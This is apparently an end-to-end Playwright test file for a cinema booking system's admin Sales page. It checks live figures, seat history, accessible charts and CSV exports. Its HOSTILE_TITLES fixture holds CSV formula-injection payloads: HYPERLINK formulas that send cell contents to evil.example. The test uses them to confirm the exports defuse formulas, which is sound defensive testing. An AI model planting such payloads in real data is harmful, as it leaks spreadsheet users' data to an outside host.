"""The admin's sales section: live figures from the change feed (a hold, a
booking paid elsewhere), a seat's history opened from the showtime's map by
keyboard, the chart's table, and the CSV downloads as a browser saves them."""

from __future__ import annotations

import asyncio
import csv
import io
import re
import secrets
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import aiohttp
from playwright.async_api import expect

from seatserver.catalog.admin import CatalogAdminStore
from seatserver.catalog.inputs import MovieInput, ShowtimeInput
from seatserver.catalog.store import CatalogStore
from seatserver.db import create_pool
from seatserver.loadgen.client import SeatClient, new_session
from tests.bookings.conftest import Buyer
from tests.e2e.browsing import Shop
from tests.e2e.staff import open_section
from tests.e2e.test_accessibility import serious_findings
from tests.e2e.test_admin import admin_page, scheduled, venue


async def test_the_dashboard_shows_a_hold_made_elsewhere_live_and_the_seat_history_opens(
        shop: Shop) -> None:
    title, _, _, theater_id = await venue(shop.database_url)
    showtime = await scheduled(shop.database_url, theater_id, title)
    server = shop.server()
    page = await admin_page(shop, server.url)
    await open_section(page, "Sales")
    line = page.locator(f'#sales-live tr[data-showtime="{showtime}"]')
    await expect(line).to_contain_text(title)
    held = line.locator("td").nth(1)
    await expect(held).to_contain_text("Gold 0")

    picker = await shop.browsing.picker(server.url, showtime)
    await picker.wait_live()
    await picker.hold("A3")
    await expect(held).to_contain_text("Gold 1")  # no reload

    await line.get_by_role("button", name=f"Seats of {title}, showtime {showtime}").click()
    seat = page.get_by_role("button", name="History of seat A3")
    await seat.focus()
    await page.keyboard.press("Enter")
    history = page.locator("#seat-history")
    await expect(history.get_by_role("heading", name=f"Seat A3, showtime {showtime}")
                 ).to_be_focused()
    await expect(history.get_by_role("listitem")).to_contain_text(["hold by user"])
    await expect(history.get_by_role("listitem").first).to_contain_text("(Europe/Berlin)")
    assert await serious_findings(page) == []  # the section with a map and a history open


async def paid_elsewhere(base_url: str, showtime: int, seats: list[str]) -> dict[str, Any]:
    """A buyer on another device books and pays ``seats`` (the simulated provider)."""
    async with aiohttp.ClientSession() as http:
        buyer = Buyer(http, base_url, await new_session(http, base_url))
        async with SeatClient(http, base_url, buyer.token) as client:
            assert (await client.hold(showtime, seats))["ok"] is True
        status, booking = await buyer.checkout(showtime, secrets.token_hex(8))
        assert status == 201, booking
        await buyer.pay(booking["checkout_url"], "pay")
    return dict(booking)


async def test_a_booking_paid_elsewhere_lands_live_on_the_dashboard_with_its_revenue(
        shop: Shop) -> None:
    title, _, _, theater_id = await venue(shop.database_url)
    showtime = await scheduled(shop.database_url, theater_id, title)
    server = shop.server()
    page = await admin_page(shop, server.url)
    await open_section(page, "Sales")
    line = page.locator(f'#sales-live tr[data-showtime="{showtime}"]')
    await expect(line.locator("th")).to_contain_text("(Europe/Berlin)")  # the theater's zone
    sold, revenue = line.locator("td").nth(0), line.locator("td").nth(3)
    await expect(sold).to_contain_text("Gold 0")
    await expect(revenue).to_have_text("€0.00")
    await expect(line.locator("td").nth(1)).to_contain_text("Gold 0")  # held: live now

    booking = await paid_elsewhere(server.url, showtime, ["A3"])
    await expect(sold).to_contain_text("Gold 1")  # no reload: from the change feed
    assert booking["total"] == {"amount": 900, "currency": "EUR"}
    await expect(revenue).to_have_text("€9.00")
    await expect(line.locator("td").nth(4)).not_to_have_text("0.0%")


# A formula a spreadsheet would run, after each character that starts one.
HOSTILE_TITLES = [f'{c}HYPERLINK("http://evil.example/?"&A1,"Film, {c}")' for c in "=+-@"]


async def test_the_chart_has_its_table_and_both_csvs_download_with_formulas_defused(
        shop: Shop) -> None:
    _, _, _, theater_id = await venue(shop.database_url)
    pool = await create_pool(shop.database_url, 2)
    try:
        admin = CatalogAdminStore(pool, CatalogStore(pool))
        screen = await pool.fetchval("SELECT id FROM screens WHERE theater_id = $1", theater_id)
        showtimes = {}
        start = (datetime.now(UTC) + timedelta(days=2)).replace(second=0, microsecond=0)
        for n, title in enumerate(HOSTILE_TITLES):
            movie = await admin.create_movie(MovieInput(
                slug=f"hostile-{secrets.token_hex(3)}", title=title, runtime_min=90))
            showtimes[title] = (await admin.create_showtime(ShowtimeInput(
                movie_id=movie.id, screen_id=screen,
                starts_at=start + timedelta(days=n)))).id
    finally:
        await pool.close()
    server = shop.server()
    first = showtimes[HOSTILE_TITLES[0]]
    booking = await paid_elsewhere(server.url, first, ["A3", "B1"])
    page = await admin_page(shop, server.url)
    await open_section(page, "Sales")

    # The chart's figures, per film, in the table that goes with it.
    table = page.get_by_role("table", name="Sales per day and film")
    line = table.get_by_role("row").filter(has_text=HOSTILE_TITLES[0])
    await expect(line).to_have_count(1)
    cells = await line.locator("td").all_inner_texts()
    assert cells[:2] == ["2", "€18.00"], cells
    chart = page.get_by_role("img", name=re.compile("^Seats sold per day"))
    await expect(chart).to_have_accessible_name(re.compile(r"\b2\b"))
    # Each bar's day is written under it (month-day), not left to the table alone.
    await expect(chart.locator("text.day").first).to_have_text(re.compile(r"^\d\d-\d\d$"))
    # And its figure over it: the chart reads without an axis or the table.
    day = start.astimezone(ZoneInfo("Europe/Berlin")).strftime("%m-%d")  # the theater's day
    bar = chart.locator("g.day-bar").filter(has=page.locator("text.day", has_text=day))
    await expect(bar.locator("text.sold")).to_have_text("2")
    assert await serious_findings(page) == []

    async def download(name: str) -> list[dict[str, str]]:
        async with page.expect_download() as started:
            await page.get_by_role("link", name=name).click()
        got = await started.value
        path = await got.path()
        text = (await asyncio.to_thread(Path(path).read_bytes)).decode("utf-8-sig")
        return list(csv.DictReader(io.StringIO(text, newline="")))

    bookings = await download("Bookings (CSV)")
    ours = [r for r in bookings if r["reference"] == booking["reference"]]
    assert len(ours) == 1 and ours[0]["movie"] == "'" + HOSTILE_TITLES[0], ours
    assert ours[0]["seats"] == "A3 B1" and ours[0]["amount_minor"] == "1800"

    sales = {r["showtime_id"]: r for r in await download("Sales per showtime (CSV)")}
    for title, showtime in showtimes.items():
        assert sales[str(showtime)]["movie"] == "'" + title  # text, never a formula
    assert sales[str(first)]["sold"] == "2"


async def test_the_range_the_figures_are_of_is_shown_in_its_fields_and_in_words(
        shop: Shop) -> None:
    """Opened with no range typed, the section shows the server's default
    week; a new manager reads which days these are, and a week of no sales
    says so rather than leaving an empty box."""
    title, _, _, theater_id = await venue(shop.database_url)
    await scheduled(shop.database_url, theater_id, title)
    server = shop.server()
    page = await admin_page(shop, server.url)
    await open_section(page, "Sales")

    caption = page.locator("#sales-chart figcaption")
    await expect(caption).to_have_text(re.compile(
        r"^Seats sold per day, (\d{4}-\d\d-\d\d) to (\d{4}-\d\d-\d\d): none\.$"))
    await expect(page.locator("#sales-chart svg")).to_have_count(0)  # no empty box of bars
    shown = re.findall(r"\d{4}-\d\d-\d\d", await caption.inner_text())
    form = page.locator("#sales-range")
    await expect(form.get_by_label("From")).to_have_value(shown[0])
    await expect(form.get_by_label("To")).to_have_value(shown[1])
    days = datetime.fromisoformat(shown[1]) - datetime.fromisoformat(shown[0])
    assert days == timedelta(days=6)  # the default week, both ends counted

    # A range typed is kept as typed, and the words follow it.
    await form.get_by_label("From").fill("2030-01-01")
    await form.get_by_label("To").fill("2030-01-03")
    await form.get_by_role("button", name="Show sales").click()
    await expect(caption).to_have_text("Seats sold per day, 2030-01-01 to 2030-01-03: none.")
    await expect(form.get_by_label("From")).to_have_value("2030-01-01")
    assert await serious_findings(page) == []
